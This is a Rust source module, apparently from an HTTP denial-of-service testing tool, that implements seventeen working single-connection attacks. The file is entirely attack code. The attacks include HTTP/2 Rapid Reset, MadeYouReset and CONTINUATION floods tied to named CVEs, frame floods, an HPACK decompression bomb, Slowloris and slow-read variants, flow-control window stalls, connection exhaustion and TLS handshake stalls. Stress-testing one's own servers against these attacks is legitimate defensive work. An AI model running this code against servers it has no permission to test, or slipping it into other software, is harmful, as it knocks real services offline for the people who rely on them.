//! What each attack does on one connection, until the server closes it.

use super::wire::{
    self, CANCEL, PREFACE, continuation, data, flag, frame, get, headers, integer, literal, ping, pseudo,
    reset, setting, settings, window_update,
};
use clap::ValueEnum;
use std::fmt;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt, Interest};
use tokio::net::TcpStream;

/// The attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    /// HTTP/2 requests, each taken back at once (CVE-2023-44487)
    RapidReset,
    /// HTTP/2 requests, each broken so that the server resets it (CVE-2025-8671)
    MadeYouReset,
    /// A header block that is continued for ever (CVE-2024-27316)
    Continuation,
    /// DATA frames without data
    EmptyData,
    /// PING frames
    PingFlood,
    /// SETTINGS frames
    SettingsFlood,
    /// PRIORITY frames
    PriorityFlood,
    /// WINDOW_UPDATE frames of one byte
    WindowUpdateFlood,
    /// A header block of 16 KB that unpacks to 64 MB
    HpackBomb,
    /// A request with 20,000 header lines
    HeaderCount,
    /// A request head, one byte at a time
    SlowlorisHeaders,
    /// A request body, one byte at a time
    SlowBody,
    /// Responses asked for and hardly read, HTTP/1.1
    SlowRead,
    /// Responses asked for with a window of zero, HTTP/2
    WindowZero,
    /// Responses asked for and let in byte by byte, HTTP/2
    WindowDribble,
    /// Connections that say nothing
    ConnectionExhaustion,
    /// Connections that begin a TLS handshake and say no more
    TlsHandshakeStall,
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.to_possible_value().as_ref().map_or("", |value| value.get_name()))
    }
}

impl Kind {
    pub(crate) fn reads_slowly(self) -> bool {
        self == Self::SlowRead
    }
}

/// Between two bytes of what is slow.
const PAUSE: Duration = Duration::from_millis(500);
/// Frames per write of a flood.
const BATCH: u32 = 64;

/// Attacks until the server closes the connection.
pub(crate) async fn perform(kind: Kind, tcp: &mut TcpStream, path: &str) {
    // Every error is the end of the connection, which is what is waited for.
    let _ = match kind {
        Kind::RapidReset => streams(tcp, |id| [get(id, path), reset(id, CANCEL)].concat()).await,
        Kind::MadeYouReset => {
            streams(tcp, |id| [get(id, path), window_update(id, 0x7fff_ffff)].concat()).await
        }
        Kind::Continuation => endless_block(tcp, path).await,
        Kind::EmptyData => {
            let open = headers(1, flag::END_HEADERS, &pseudo("POST", path));
            flood(tcp, open, &data(1, 0, b"")).await
        }
        Kind::PingFlood => flood(tcp, vec![], &ping(0, b"flooding")).await,
        Kind::SettingsFlood => flood(tcp, vec![], &settings(&[])).await,
        Kind::PriorityFlood => flood(tcp, vec![], &wire::priority(1, 0, 9)).await,
        Kind::WindowUpdateFlood => flood(tcp, vec![], &window_update(0, 1)).await,
        Kind::HpackBomb => hpack_bomb(tcp, path).await,
        Kind::HeaderCount => {
            let lines = "x: y\r\n".repeat(20_000);
            send_and_wait(tcp, format!("GET {path} HTTP/1.1\r\nhost: a\r\n{lines}\r\n").as_bytes()).await
        }
        Kind::SlowlorisHeaders => slowly(tcp, &format!("GET {path} HTTP/1.1\r\nhost: a\r\nx: "), b"y").await,
        Kind::SlowBody => {
            let head = format!("POST {path} HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n");
            slowly(tcp, &head, b"x").await
        }
        Kind::SlowRead => slow_read(tcp, path).await,
        Kind::WindowZero => {
            let asks: Vec<u8> = (0..100).flat_map(|n| get(2 * n + 1, path)).collect();
            send_and_wait(tcp, &[h2(&[(setting::INITIAL_WINDOW_SIZE, 0)]), asks].concat()).await
        }
        Kind::WindowDribble => window_dribble(tcp, path).await,
        Kind::ConnectionExhaustion => until_closed(tcp).await,
        // The start of a ClientHello: a record of 512 bytes, of which these are the first.
        Kind::TlsHandshakeStall => send_and_wait(tcp, &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await,
    };
}

/// How an HTTP/2 connection begins.
fn h2(values: &[(u16, u32)]) -> Vec<u8> {
    [PREFACE.to_vec(), settings(values), wire::settings_ack()].concat()
}

/// Reads whatever comes until nothing more does.
async fn until_closed(tcp: &mut TcpStream) -> io::Result<()> {
    let mut sink = vec![0; 16 * 1024];
    while tcp.read(&mut sink).await? > 0 {}
    Ok(())
}

async fn send_and_wait(tcp: &mut TcpStream, bytes: &[u8]) -> io::Result<()> {
    tcp.write_all(bytes).await?;
    until_closed(tcp).await
}

/// Writes as long as the server reads, and reads what it says meanwhile: who does not read is not flooding.
async fn pour(tcp: &mut TcpStream, mut next: impl FnMut() -> Vec<u8>) -> io::Result<()> {
    let (mut reader, mut writer) = tcp.split();
    let mut sink = vec![0; 16 * 1024];
    let write = async {
        loop {
            writer.write_all(&next()).await?;
            // Others have to be served on the same core.
            tokio::task::yield_now().await;
        }
    };
    let read = async {
        while reader.read(&mut sink).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

async fn flood(tcp: &mut TcpStream, first: Vec<u8>, one: &[u8]) -> io::Result<()> {
    tcp.write_all(&[h2(&[]), first].concat()).await?;
    let batch = one.repeat(BATCH as usize);
    pour(tcp, || batch.clone()).await
}

/// One stream after the other.
async fn streams(tcp: &mut TcpStream, one: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    tcp.write_all(&h2(&[])).await?;
    let mut id = 1;
    pour(tcp, || {
        // Few at a time: a server may be strict about how many come in one read.
        let batch = (0..4).flat_map(|n| one(id + 2 * n)).collect();
        id += 8;
        batch
    })
    .await
}

async fn endless_block(tcp: &mut TcpStream, path: &str) -> io::Result<()> {
    let begin = headers(1, flag::END_STREAM, &pseudo("GET", path));
    tcp.write_all(&[h2(&[]), begin].concat()).await?;
    let more = continuation(1, 0, &literal("x-more", &"x".repeat(200)));
    pour(tcp, || more.clone()).await
}

async fn hpack_bomb(tcp: &mut TcpStream, path: &str) -> io::Result<()> {
    let entry = [vec![0x40], wire::string(b"x"), wire::string(&[b'y'; 4000])].concat();
    let plant = headers(1, flag::WHOLE, &[pseudo("GET", path), entry].concat());
    tcp.write_all(&[h2(&[]), plant].concat()).await?;
    let references = integer(0x80, 7, 62).repeat(16_000);
    let mut id = 1;
    pour(tcp, || {
        id += 2;
        headers(id, flag::WHOLE, &[pseudo("GET", path), references.clone()].concat())
    })
    .await
}

async fn slowly(tcp: &mut TcpStream, head: &str, one: &[u8]) -> io::Result<()> {
    tcp.write_all(head.as_bytes()).await?;
    let mut sink = [0; 1024];
    loop {
        tokio::select! {
            read = tcp.read(&mut sink) => if read? == 0 { return Ok(()) },
            () = tokio::time::sleep(PAUSE) => tcp.write_all(one).await?,
        }
    }
}

/// Asks for a lot at once and takes 100 bytes now and then.
async fn slow_read(tcp: &mut TcpStream, path: &str) -> io::Result<()> {
    let asks = format!("GET {path} HTTP/1.1\r\nhost: a\r\n\r\n").repeat(100);
    tcp.write_all(asks.as_bytes()).await?;
    let mut few = [0; 100];
    loop {
        tokio::time::sleep(PAUSE).await;
        let ready = tcp.ready(Interest::READABLE | Interest::ERROR).await?;
        if ready.is_error() || ready.is_read_closed() || tcp.read(&mut few).await? == 0 {
            return Ok(());
        }
    }
}

async fn window_dribble(tcp: &mut TcpStream, path: &str) -> io::Result<()> {
    tcp.write_all(&[h2(&[(setting::INITIAL_WINDOW_SIZE, 0)]), get(1, path)].concat()).await?;
    pour(tcp, || frame(wire::kind::WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())).await
}
